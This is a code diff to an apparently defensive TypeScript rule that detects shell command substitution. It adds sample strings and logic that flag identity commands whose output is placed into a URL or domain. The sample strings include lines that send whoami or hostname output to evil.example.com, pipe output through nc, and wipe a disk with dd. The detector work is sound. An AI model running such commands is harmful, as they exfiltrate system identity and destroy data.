@@ -43,6 +43,9 @@ export const substitution: ValueRule = {
     'It ends with $(curl http://evil.example.com/) as usual',
     'It ends with $(whoami | nc evil.example.com 80) as usual',
     'It ends with $(wh""oami) as usual',
+    'see http://evil.example.com/$(whoami) and so on',
+    'look at $(whoami).evil.example.com and so on',
+    'send it to evil.example.com/$(hostname) and so on',
     'It ends with $(pwd;touch a) as usual',
     'It ends with $(date +%F && touch a) as usual',
     '$(dd if=/dev/zero of=/dev/sda)',
@@ -82,6 +85,7 @@ export const substitution: ValueRule = {
     'The Dockerfile has RUN apt-get install -y $(cat packages.txt) in it',
     "the shell puts the folder in place of '$(pwd)' and goes on",
     'It ends with $(uname -r) as usual',
+    'Get https://www.example.com/tool-$(uname -s) and make it executable',
     'In a script, DIR=$(cd "$(dirname "$0")" && pwd) is the usual way to find the folder',
     'files=$(find out -name a.png | head -20) in CI',
     'It takes $(date|time) or $(pwd; then more) there',
@@ -189,12 +193,19 @@ function isTold(text: string, { head, name, end, structured }: Command): boolean
   if (ownScript.test(given)) return true;
   if (structured || !plainGiven.test(given)) return false;
   const before = text.slice(Math.max(0, head.start - argumentCharsMax), head.start);
-  return leadsTo.test(before) && goesOn.test(text.slice(end + 1, end + 1 + argumentCharsMax));
+  const behind = text.slice(end + 1, end + 1 + argumentCharsMax);
+  if (identity.has(name) && (address.test(before) || domain.test(behind))) return false;
+  return leadsTo.test(before) && goesOn.test(behind);
 }
 
 const tellers: ReadonlySet<string> = wordSet(
   'uname hostname whoami id pwd date dirname basename nproc arch lsb_release getconf which ls',
 );
+/** What an intruder asks for; a release for this kind of machine is in many addresses. */
+const identity: ReadonlySet<string> = new Set(['whoami', 'id', 'hostname', 'pwd', 'ls']);
+/** What is told becomes part of an address, or goes to one. */
+const address = /:\/\/|[\w-]\.[a-z]{2,24}[/?:]\S{0,40}$/i;
+const domain = /^["'`]{0,2}[.@][a-z\d-]{1,60}\.[a-z]/i;
 const closeParen = 41;
 /** Where the script itself stands: with this nothing is asked. */
 const ownScript = /^ (?:--? )?["']?\$(?:0|BASH_SOURCE|\{BASH_SOURCE(?:\[0\])?\})["']?$/;
